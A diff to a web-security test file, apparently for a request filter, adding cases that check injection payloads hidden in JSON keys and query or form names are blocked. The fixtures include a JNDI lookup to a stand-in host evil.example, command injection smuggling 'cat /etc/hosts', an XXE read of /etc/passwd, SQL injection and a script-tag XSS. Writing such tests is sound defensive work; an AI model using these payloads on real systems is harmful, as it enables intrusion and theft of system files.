@@ -31,6 +31,12 @@ test("attacks are blocked wherever they are, with the class in the reply and not
     ["cmdi", send("POST", "/ping", [["content-type", "application/x-www-form-urlencoded"]], ["host=8.8.8.8%3B%20cat%20%2Fetc%2Fhosts"])],
     ["xxe", send("POST", "/import", [["content-type", "application/xml"]], ['<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'])],
     ["ssti", send("POST", "/render", json, ['{"template":"{{7*7}}"}'])],
+    // In names, not values: JSON keys, query and form names (a bare name with no '=' too).
+    ["jndi", send("POST", "/profile", json, ['{"user":{"${jndi:ldap://evil.example/a}":1}}'])],
+    ["sqli", send("POST", "/profile", json, ['{"id\' OR 1=1--":1}'])],
+    ["xss", send("GET", "/search?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1")],
+    ["jndi", send("GET", "/search?${jndi:ldap://evil.example/a}")],
+    ["cmdi", send("POST", "/ping", [["content-type", "application/x-www-form-urlencoded"]], ["a%3Bcat%20%2Fetc%2Fhosts=1"])],
   ];
   for (const [cls, pending] of cases) {
     const r = await pending;
